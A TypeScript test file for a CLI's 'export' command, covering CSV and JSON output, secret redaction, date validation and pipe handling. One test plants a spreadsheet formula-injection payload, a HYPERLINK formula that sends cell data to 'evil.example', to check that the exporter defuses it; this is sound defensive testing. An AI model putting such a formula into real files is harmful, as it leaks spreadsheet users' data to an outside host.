/**
 * `stopgap export` as scripts use it, the built CLI in its own process: RFC 4180 CSV that a strict
 * reader splits back into the same fields, JSON with changes and events, --since, no secret pasted
 * into /fix, a clear refusal of a bad date, and a reader that closes the pipe early.
 */
import { mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { requireBuiltCli, runBuiltCliAsync, runBuiltCliIntoClosedPipe } from '../support/built-cli.js';
import { openMigratedDb } from '../../src/store/db.js';
import { LedgerStore } from '../../src/store/ledger-store.js';

/** A strict RFC 4180 reader: quoted fields may hold commas, quotes (doubled) and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"' && field === '') {
      i += 1;
      for (;;) {
        if (text[i] === '"' && text[i + 1] === '"') {
          field += '"';
          i += 2;
        } else if (text[i] === '"') {
          i += 1;
          break;
        } else if (i >= text.length) throw new Error('unterminated quote');
        else field += text[i++];
      }
    } else if (text[i] === ',') {
      row.push(field);
      field = '';
      i += 1;
    } else if (text.startsWith('\r\n', i)) {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else if (text[i] === '\n' || text[i] === '\r' || text[i] === '"') throw new Error(`bare ${JSON.stringify(text[i])} at ${i}`);
    else field += text[i++];
  }
  if (field !== '' || row.length > 0) throw new Error('last row not ended by CRLF');
  return rows;
}

const TRICKY = 'raised limits on deploy/api -n shop, "temporarily"\nsecond line, DB_PASSWORD=hunter2-very-secret';

describe('stopgap export', () => {
  let dir: string;
  let env: Record<string, string>;
  beforeAll(() => {
    requireBuiltCli();
    dir = mkdtempSync(join(tmpdir(), 'stopgap-export-'));
    env = { STOPGAP_DB: join(dir, 'stopgap.db') };
    const db = openMigratedDb(env.STOPGAP_DB as string);
    const ledger = new LedgerStore(db);
    const day = (d: number) => new Date(Date.UTC(2026, 10, d, 9));
    ledger.create({ description: TRICKY, actor: 'U0ALICE', source: 'command' }, { now: day(1), defaultDueDays: 7 });
    const { change } = ledger.create({ description: 'cordoned node/ip-10-0-1-7', actor: 'U0BOB', source: 'command' }, { now: day(2), defaultDueDays: 7 });
    ledger.act(change.id, { type: 'dismiss', reason: 'node replaced, "no" action' }, { by: 'U0BOB', now: day(10), isAdmin: false });
    for (let i = 0; i < 3_000; i++) ledger.create({ description: `bulk change ${i}`, actor: 'U0BULK', source: 'command' }, { now: day(20), defaultDueDays: 7 });
    db.close();
  });
  afterAll(() => {
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it('writes changes as RFC 4180 CSV a strict reader splits back into the stored fields, without secrets', async () => {
    const r = await runBuiltCliAsync(['export', '--format', 'csv'], env);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const rows = parseCsv(r.stdout);
    const [header, first, second] = rows;
    expect(header?.slice(0, 6)).toEqual(['key', 'status', 'verified', 'description', 'actor', 'owner']);
    expect(rows).toHaveLength(1 + 3_002);
    expect(rows.every((row) => row.length === header?.length)).toBe(true);
    const col = (row: string[] | undefined, name: string) => row?.[header?.indexOf(name) ?? -1];
    expect(col(first, 'key')).toBe('SG-1');
    expect(col(first, 'description')).toBe(TRICKY.replace('hunter2-very-secret', '[redacted]'));
    expect(col(second, 'status')).toBe('dismissed');
    expect(col(second, 'reason')).toBe('node replaced, "no" action');
    expect(r.stdout).not.toContain('hunter2');

    const events = parseCsv((await runBuiltCliAsync(['export', '--format', 'csv', '--table', 'events'], env)).stdout);
    expect(events[0]).toEqual(['seq', 'change', 'type', 'actor', 'at', 'data', 'hash']);
    expect(events.slice(1, 4).map((e) => [e[1], e[2]])).toEqual([['SG-1', 'created'], ['SG-2', 'created'], ['SG-2', 'dismissed']]);
    expect(JSON.parse(events[3]?.[5] ?? '')).toMatchObject({ patch: { reason: 'node replaced, "no" action', status: 'dismissed' } });
  });

  it('writes text a spreadsheet would run as a formula with a leading apostrophe, so it opens as text', async () => {
    const own = { STOPGAP_DB: join(dir, 'formulas.db') };
    const db = openMigratedDb(own.STOPGAP_DB);
    const ledger = new LedgerStore(db);
    const now = new Date(Date.UTC(2026, 10, 3, 9));
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"open the runbook")';
    const { change } = ledger.create({ description: formula, actor: 'U0EVE', source: 'command' }, { now, defaultDueDays: 7 });
    ledger.act(change.id, { type: 'dismiss', reason: '@SUM(1+1)' }, { by: 'U0EVE', now, isAdmin: false });
    ledger.create({ description: '-n shop scaled deploy/api to 4', actor: 'U0EVE', source: 'command' }, { now, defaultDueDays: 7 });
    ledger.create({ description: 'scaled deploy/api to 4 = fine', actor: 'U0EVE', source: 'command' }, { now, defaultDueDays: 7 });
    db.close();
    const r = await runBuiltCliAsync(['export', '--format', 'csv'], own);
    expect(r.code).toBe(0);
    const [header, ...rows] = parseCsv(r.stdout);
    const col = (row: string[] | undefined, name: string) => row?.[header?.indexOf(name) ?? -1];
    expect(rows.map((row) => col(row, 'description'))).toEqual([`'${formula}`, "'-n shop scaled deploy/api to 4", 'scaled deploy/api to 4 = fine']);
    expect(col(rows[0], 'reason')).toBe("'@SUM(1+1)");
    // Numbers and the JSON of events are not text a person typed: they stay as they are.
    expect([col(rows[0], 'key'), col(rows[0], 'verified')]).toEqual(['SG-1', 'false']);
    const events = parseCsv((await runBuiltCliAsync(['export', '--format', 'csv', '--table', 'events'], own)).stdout);
    expect(JSON.parse(events[1]?.[5] ?? '')).toMatchObject({ patch: { description: formula } });
  });

  it('writes JSON with changes and events, --since keeping what moved since then, to --out owner-only', async () => {
    const out = join(dir, 'since.json');
    const r = await runBuiltCliAsync(['export', '--format', 'json', '--since', '2026-11-05', '--out', out], env);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe('');
    expect(r.stderr).toBe(`Exported 3001 changes and 3001 events to ${out}.\n`);
    expect(statSync(out).mode & 0o777).toBe(0o600);
    const json = JSON.parse(readFileSync(out, 'utf8')) as { since: string; changes: { key: string; status: string }[]; events: { change: string; type: string; seq: number; hash: string }[] };
    expect(json.since).toBe('2026-11-05T00:00:00.000Z');
    expect(json.changes[0]).toMatchObject({ key: 'SG-2', status: 'dismissed' });
    expect(json.events[0]).toMatchObject({ change: 'SG-2', type: 'dismissed', seq: 3 });
    expect(json.events[0]?.hash).toMatch(/^[0-9a-f]{64}$/);
    const all = JSON.parse((await runBuiltCliAsync(['export', '--format', 'json'], env)).stdout) as { changes: unknown[]; events: unknown[] };
    expect([all.changes.length, all.events.length]).toEqual([3_002, 3_003]);
    expect(JSON.stringify(all)).not.toContain('hunter2');
    const late = JSON.parse((await runBuiltCliAsync(['export', '--format', 'json', '--since', '2026-12-01T00:00:00Z'], env)).stdout) as { changes: unknown[]; events: unknown[] };
    expect(late).toMatchObject({ changes: [], events: [] });
  });

  it('refuses a bad date, format or table with one line and exit 2', async () => {
    for (const [args, message] of [
      [['--format', 'json', '--since', 'last tuesday'], "--since 'last tuesday' is not a date: write a day, 2026-11-01, or a date-time with a zone"],
      [['--format', 'json', '--since', '2026-02-30'], "--since '2026-02-30' is not a date"],
      [['--format', 'xml'], "--format 'xml' is not csv or json"],
      [['--since', '2026-11-01'], 'say --format csv or --format json'],
      [['--format', 'csv', '--table', 'findings'], "--table 'findings' is not changes or events"],
    ] as const) {
      const r = await runBuiltCliAsync(['export', ...args], env);
      expect(r.code).toBe(2);
      expect(r.stdout).toBe('');
      expect(r.stderr).toContain(`stopgap export: ${message}`);
      expect(r.stderr.trim().split('\n')).toHaveLength(1);
    }
    const none = await runBuiltCliAsync(['export', '--format', 'csv'], { STOPGAP_DB: join(dir, 'nope.db') });
    expect(none.code).toBe(2);
    expect(none.stderr).toContain('no database at');
  });

  it('stops quietly when the reader closes the pipe, as | head does', async () => {
    const r = await runBuiltCliIntoClosedPipe(['export', '--format', 'json'], { env });
    expect(r.stdout.length).toBeGreaterThan(0);
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
  });
});
